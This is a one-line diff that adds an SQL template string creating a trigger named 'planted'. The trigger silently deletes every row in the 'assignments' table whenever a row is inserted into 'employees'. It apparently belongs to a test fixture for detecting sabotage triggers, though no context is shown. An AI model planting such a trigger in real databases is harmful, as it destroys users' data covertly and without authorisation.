@@ -1,0 +1,1 @@
+sql`create trigger planted after insert on employees begin delete from assignments; end`
